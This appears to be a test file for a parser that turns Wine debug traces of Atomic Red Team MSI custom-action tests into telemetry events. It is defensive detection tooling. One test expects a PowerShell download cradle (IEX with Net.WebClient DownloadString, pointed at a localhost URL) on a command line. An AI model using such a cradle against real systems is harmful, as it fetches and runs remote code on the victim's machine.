// Wine trace → canonical events (telemetry.md §7; lab-recipes §2.4). Fixtures: lines kept from
// the lab's own WINEDEBUG=+pid,+timestamp,+process,+msi,+file captures (test/fixtures/wine-trace).
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { anchoredTime, parseWineTrace, wideStrings } from '../../../../../harness/telemetry/readers/wine-trace/parse.ts';
import { wineTraceReader } from '../../../../../harness/telemetry/readers/wine-trace/index.ts';
import { REPO_ROOT } from '../../../../support/corpus.ts';

const DIR = path.join(REPO_ROOT, 'test/fixtures/wine-trace');
const load = (name: string) => {
  const file = path.join(DIR, name);
  const anchor = JSON.parse(readFileSync(`${file}.anchor.json`, 'utf8')) as { wall: number; monoRaw: number };
  return parseWineTrace(readFileSync(file, 'utf8'), { file, anchor, host: 'atomic-lab-wine' });
};

describe('wine trace: test 3 (silent install, type-50 custom action runs cmd.exe)', () => {
  const r = load('t3-cmd-custom-action.trace');
  const procs = r.events.filter((e) => e.kind === 'process_creation');

  it('keeps the test\'s process chain and drops Wine\'s own services (wineboot, services, winedevice, plugplay, svchost, rpcss, explorer, winemenubuilder)', () => {
    expect(procs.map((e) => e.process!.name)).toEqual(['cmd.exe', 'cmd.exe', 'msiexec.exe', 'cmd.exe']);
  });

  it('Image from NtCreateUserProcess without \\??\\, CommandLine from CreateProcessInternalW (\\\\ and \\" unescaped), pids hex → decimal', () => {
    const ca = procs[3]!;
    expect(ca.process).toMatchObject({ image: 'C:\\windows\\system32\\cmd.exe', pid: String(0x118) });
    expect(ca.process!.commandLine).toMatch(/^C:\\windows\\system32\\cmd\.exe \/c echo [0-9a-f-]{36}> C:\\custom_action_test\.txt$/);
    expect(procs[2]!.process!.commandLine).toMatch(/^msiexec\.exe \/i "C:\\AtomicRedTeam\\atomics\\\.\.\\ExternalPayloads\\T1546\.016\\t3_cmd_custom_action\.msi" \/qn RUN_MARKER=/);
  });

  it('links each child to its creator: ParentProcessId is the line prefix pid, ParentImage/CommandLine what was recorded for it', () => {
    expect(procs[3]!.parent).toMatchObject({ pid: procs[2]!.process!.pid, image: 'C:\\windows\\system32\\msiexec.exe' });
    expect(procs[3]!.parent!.commandLine).toBe(procs[2]!.process!.commandLine);
    // the first process was started from Unix: only its creator's pid is known
    expect(procs[0]!.parent).toEqual({ pid: String(0x20) });
  });

  it('file creation only for CreateFileW creation 1 (CREATE_NEW) or 2 (CREATE_ALWAYS), with the writing process', () => {
    const files = r.events.filter((e) => e.kind === 'file_event');
    expect(files.map((e) => e.file!.path)).toContain('C:\\custom_action_test.txt');
    expect(files.find((e) => e.file!.path === 'C:\\custom_action_test.txt')!.process!.pid).toBe(procs[3]!.process!.pid);
    // the fixture keeps three creation-3 (OPEN_EXISTING) lines: none became an event
    const opened = readFileSync(path.join(DIR, 't3-cmd-custom-action.trace'), 'utf8').split('\n').filter((l) => / creation 3 /.test(l)).length;
    expect(opened).toBe(3);
    expect(files.every((e) => /creation [12] /.test((e.record as { lines: string[] }).lines[0]!))).toBe(true);
  });

  it('anchors Wine\'s CLOCK_MONOTONIC_RAW seconds to the wall clock', () => {
    expect(anchoredTime(2226.552444618, { wall: 1795441329.0159898, monoRaw: 2226.052444618 })).toBe('2026-11-23T13:42:09.516Z');
    for (const e of r.events) {
      expect(e.origin).toMatchObject({ format: 'wine-trace', sensor: 'wine-trace', synthetic: true });
      expect(e.platform).toBe('windows');
      expect(Date.parse(e.time)).toBeGreaterThan(1795441329000);
      expect(Date.parse(e.time)).toBeLessThan(1795441339000);
    }
  });

  it('returns the custom action with its type (hex 72 = 114) and the formatted target', () => {
    expect(r.customActions).toEqual([expect.objectContaining({ action: 'CA_CmdWriteMarker', typeHex: '72', type: 114, source: 'CMDEXE' })]);
    expect(r.customActions[0]!.formatted).toMatch(/^cmd\.exe \/c echo [0-9a-f-]{36}> C:\\custom_action_test\.txt$/);
  });
});

describe('wine trace: test 1 (powershell.exe stub)', () => {
  const r = load('t1-powershell-cradle.trace');
  it('powershell.exe is a child of msiexec.exe with the cradle on its command line', () => {
    const ps = r.events.find((e) => e.process?.name === 'powershell.exe')!;
    expect(ps.parent!.name).toBe('msiexec.exe');
    expect(ps.process!.commandLine).toContain("-Command \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8765/t1?marker=");
  });
  it('the fixme:powershell stub line is returned with its argv', () => {
    expect(r.stubs).toHaveLength(1);
    expect(r.stubs[0]!.argv.slice(1, 3)).toEqual(['-NoProfile', '-Command']);
  });
});

describe('wine trace: benign type-34 action (CreateProcessInternalW app (null))', () => {
  const r = load('benign-vendor-type34.trace');
  it('takes the image from NtCreateUserProcess when CreateProcessInternalW has no app, and drops the >nul device', () => {
    const cfg = r.events.find((e) => e.process?.commandLine?.startsWith('cmd.exe /c configure.cmd'))!;
    expect(cfg.process!.image).toBe('C:\\windows\\system32\\cmd.exe');
    expect(r.events.some((e) => e.kind === 'file_event' && /\\nul$|^nul$/i.test(e.file!.path))).toBe(false);
    expect(r.events.some((e) => e.process?.name === 'reg.exe' && e.parent?.pid === cfg.process!.pid)).toBe(true);
  });
  it('a deferred action appears twice in ACTION_CustomAction; only the run one has a formatted target (type 0xc62 = 3170)', () => {
    expect(r.customActions.map((c) => [c.type, c.formatted !== undefined])).toEqual([[3170, false], [3170, true]]);
  });
});

describe('wideStrings / reader', () => {
  it('decodes debugstr_w escapes', () => {
    expect(wideStrings('x L"a\\\\b \\"q\\" \\x00e9" y L""').map((s) => s.value)).toEqual(['a\\b "q" é', '']);
  });
  it('sniffs a trace even after Wine\'s wine32 warning lines, and reads it with the anchor sidecar', async () => {
    const file = path.join(DIR, 't3-cmd-custom-action.trace');
    expect(wineTraceReader.sniff(readFileSync(file))).toBe(true);
    const events = [];
    for await (const e of wineTraceReader.read(file, { file })) events.push(e);
    expect(events).toHaveLength(load('t3-cmd-custom-action.trace').events.length);
  });
});
